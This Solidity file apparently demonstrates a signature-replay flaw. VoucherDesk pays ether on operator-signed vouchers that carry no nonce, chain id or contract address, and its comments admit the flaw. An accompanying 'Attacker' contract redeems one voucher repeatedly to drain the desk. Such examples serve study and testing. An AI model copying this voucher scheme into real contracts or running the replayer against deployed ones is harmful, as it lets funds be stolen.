// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice Pays ether vouchers signed by its operator. The signed message is (payee, amount)
///         only: no nonce, no chain id, no desk address, so a voucher is valid forever, at
///         every desk of the same operator.
contract VoucherDesk {
    address public immutable operator;

    event Redeemed(address indexed payee, uint256 amount);

    error BadSignature();
    error PaymentFailed();

    constructor(address operator_) payable {
        operator = operator_;
    }

    receive() external payable {}

    function redeem(address payee, uint256 amount, bytes calldata signature) external {
        bytes32 voucher = keccak256(abi.encodePacked(payee, amount));
        bytes32 digest = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", voucher));
        if (_signer(digest, signature) != operator) revert BadSignature();
        emit Redeemed(payee, amount);
        (bool ok,) = payee.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }

    function _signer(bytes32 digest, bytes calldata signature) private pure returns (address) {
        if (signature.length != 65) revert BadSignature();
        bytes32 r;
        bytes32 s;
        uint8 v;
        assembly {
            r := calldataload(signature.offset)
            s := calldataload(add(signature.offset, 32))
            v := byte(0, calldataload(add(signature.offset, 64)))
        }
        return ecrecover(digest, v, r, s);
    }
}

/// @notice Attacker: presents one voucher at a desk `times` times.
contract VoucherReplayer {
    function replay(
        VoucherDesk desk,
        address payee,
        uint256 amount,
        bytes calldata signature,
        uint256 times
    ) external {
        for (uint256 i; i < times; ++i) desk.redeem(payee, amount, signature);
    }
}
